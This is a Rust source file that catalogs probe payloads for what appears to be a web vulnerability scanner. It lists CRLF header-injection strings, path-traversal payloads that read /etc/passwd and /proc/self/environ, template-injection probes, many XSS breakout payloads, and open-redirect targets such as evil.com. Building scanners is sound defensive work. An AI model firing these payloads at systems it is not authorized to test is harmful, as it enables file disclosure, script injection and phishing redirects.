//! Static payload catalog, one ordered list per probe kind.

use crate::probe::kind::Certainty;
use crate::probe::request::Expectation;

/// A literal payload ready to be appended to a target.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    pub value: String,
    pub display: String,
    pub expectation: Expectation,
}

impl Payload {
    fn plain(value: &str) -> Self {
        Self {
            value: value.to_string(),
            display: value.to_string(),
            expectation: Expectation::None,
        }
    }
}

// ==============================
// CRLF
// ==============================

/// Already percent-encoded; `{tag}` is substituted per run.
pub const CRLF_ENCODED_TEMPLATES: &[&str] = &[
    "%0d%0aX-CRLF-TEST: {tag}",
    "%0d%0aSet-Cookie: crlf_test={tag}",
    "%0d%0aX-Injected: {tag}",
    "%0aX-CRLF-TEST: {tag}",
    "%0d%0aX-CRLF-TEST:%20{tag}",
    "%250d%250aX-CRLF-TEST:%20{tag}",
];

/// Raw control characters, fully percent-encoded before sending.
pub const CRLF_RAW_TEMPLATES: &[&str] = &["\r\nX-CRLF-TEST: {tag}", "\nX-CRLF-TEST: {tag}"];

pub fn crlf_payloads(tag: &str) -> Vec<Payload> {
    let encoded = CRLF_ENCODED_TEMPLATES
        .iter()
        .map(|t| t.replace("{tag}", tag));
    let raw = CRLF_RAW_TEMPLATES
        .iter()
        .map(|t| urlencoding::encode(&t.replace("{tag}", tag)).into_owned());

    encoded
        .chain(raw)
        .map(|value| {
            // one decoding pass, so double-encoded templates still read as encoded
            let display = urlencoding::decode(&value)
                .map(|d| d.into_owned())
                .unwrap_or_else(|_| value.clone());
            Payload {
                value,
                display,
                expectation: Expectation::None,
            }
        })
        .collect()
}

// ==============================
// LFI
// ==============================

pub const LFI_PAYLOADS: &[&str] = &[
    "../../etc/passwd",
    "../../../../etc/passwd",
    "../../windows/win.ini",
    "../../../../windows/win.ini",
    "../../proc/self/environ",
    "../../../../proc/self/environ",
    "../../etc/hosts",
    "../../../../etc/hosts",
];

/// (file type, content marker)
pub const LFI_SIGNATURES: &[(&str, &str)] = &[
    ("passwd", "root:"),
    ("win.ini", "[extensions]"),
    ("environ", "PATH="),
    ("hosts", "localhost"),
];

pub fn lfi_payloads() -> Vec<Payload> {
    LFI_PAYLOADS.iter().map(|p| Payload::plain(p)).collect()
}

// ==============================
// SSTI
// ==============================

/// (template expression, lhs, rhs) where the expression multiplies lhs by rhs
pub const SSTI_PAYLOADS: &[(&str, u64, u64)] = &[
    ("{{7*7}}", 7, 7),
    ("{{9*9}}", 9, 9),
    ("{{1337*1337}}", 1337, 1337),
    ("${{7*7}}", 7, 7),
    ("<%= 7*7 %>", 7, 7),
    ("${7*7}", 7, 7),
];

pub fn ssti_payloads() -> Vec<Payload> {
    SSTI_PAYLOADS
        .iter()
        .map(|(expr, lhs, rhs)| Payload {
            value: expr.to_string(),
            display: expr.to_string(),
            expectation: Expectation::Evaluates {
                expected: (lhs * rhs).to_string(),
            },
        })
        .collect()
}

// ==============================
// XSS
// ==============================

/// (payload, expected behavior if reflected unescaped)
pub const XSS_PAYLOADS: &[(&str, &str)] = &[
    ("DELTA", "Possible"),
    // plain HTML and classic script
    ("<h1>delta</h1>", "Confirmed"),
    ("<script>alert('delta')</script>", "Confirmed"),
    // attribute and tag breakouts
    ("\"><img src=x onerror=alert('delta')>", "Confirmed"),
    ("'><svg/onload=alert('delta')>", "Confirmed"),
    ("'><img/src/onerror=alert('delta')>", "Confirmed"),
    ("\"><iframe srcdoc=\"<script>alert('delta')</script>\"></iframe>", "Confirmed"),
    // event handlers
    ("'><a href=# onclick=alert('delta')>x</a>", "Confirmed"),
    ("\"><input autofocus onfocus=alert(\"delta\")>", "Confirmed"),
    ("\"><body onload=alert(\"delta\")>", "Confirmed"),
    // SVG / XML
    ("<svg><script>alert(\"delta\")</script></svg>", "Confirmed"),
    ("<svg><foreignObject><body onload=alert(\"delta\")></foreignObject></svg>", "Confirmed"),
    // href sinks
    ("javascript:alert(\"delta\")", "Possible"),
    ("\"><a href=\"javascript:alert('delta')\">click</a>", "Possible"),
    // data URIs
    ("<img src=\"data:text/html,<script>alert('delta')</script>\">", "Possible"),
    // fragment based, never reaches the server but kept for DOM checks
    ("#<svg/onload=alert('delta')>", "Confirmed (DOM)"),
    ("#'><img src=x onerror=alert('delta')>", "Confirmed (DOM)"),
    // encoded / obfuscated
    ("%3Cscript%3Ealert%28%27delta%27%29%3C%2Fscript%3E", "Possible (encoded)"),
    ("\\u003Cscript\\u003Ealert('delta')\\u003C/script\\u003E", "Possible (unicode-escaped)"),
    // polyglots
    ("'><svg onload=/*-/*/alert('delta')>//", "Possible"),
    ("\"><!--<script>alert(\"delta\")</script>-->", "Possible (comment trick)"),
    // non-popup
    ("<script>console.log('delta')</script>", "Confirmed (stealth)"),
    ("'><svg/onload=console.log('delta')>", "Confirmed (stealth)"),
    // unusual sinks
    ("\"><button formaction=\"javascript:alert('delta')\">x</button>", "Possible"),
    ("'><details open ontoggle=alert('delta')>x</details>", "Possible"),
    // eval-like sinks
    ("${alert('delta')}", "Possible (template/JS-eval)"),
    ("`;alert('delta');//", "Possible (JS-string breaking)"),
];

pub fn xss_payloads() -> Vec<Payload> {
    XSS_PAYLOADS
        .iter()
        .map(|(payload, label)| Payload {
            value: payload.to_string(),
            display: payload.to_string(),
            expectation: Expectation::Reflects {
                certainty: Certainty::from_label(label),
                technique: label.to_string(),
            },
        })
        .collect()
}

// ==============================
// OPEN REDIRECT
// ==============================

pub const OPEN_REDIRECT_PAYLOADS: &[&str] = &[
    "//google.com",
    "//google.com/",
    "//google.com/%2f..",
    "///google.com/%2f..",
    "////google.com/%2f..",
    "/https://google.com",
    "https://google.com",
    "http://google.com",
    "/evil.com",
    "//evil.com",
    "https://evil.com",
    "/https/evil.com",
    "http:evil.com",
    "https:evil.com",
    "/?next=//evil.com",
    "/redirect?url=//evil.com",
];

pub fn open_redirect_payloads() -> Vec<Payload> {
    OPEN_REDIRECT_PAYLOADS.iter().map(|p| Payload::plain(p)).collect()
}
